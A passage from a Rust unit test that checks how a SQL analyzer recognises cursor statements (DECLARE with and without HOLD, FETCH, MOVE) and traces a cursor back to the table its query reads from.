        named("DECLARE c CURSOR FOR SELECT * FROM orders"),
        Some(PreparedName::Declare {
            name: "c".into(),
            hold: false
        })
    );
    assert_eq!(
        named("DECLARE C NO SCROLL CURSOR WITH HOLD FOR SELECT 1"),
        Some(PreparedName::Declare {
            name: "c".into(),
            hold: true
        })
    );
    assert_eq!(
        named("FETCH FORWARD 10 FROM c"),
        Some(PreparedName::Fetch("c".into()))
    );
    assert_eq!(
        named("MOVE LAST IN c"),
        Some(PreparedName::Fetch("c".into()))
    );
    // A cursor's facts are its query's.
    let declare = &analyze("DECLARE c CURSOR FOR SELECT * FROM orders").statements[0];
    assert_eq!(declare.tables, ["orders"]);
    assert_eq!(named("SELECT 1"), None);
}
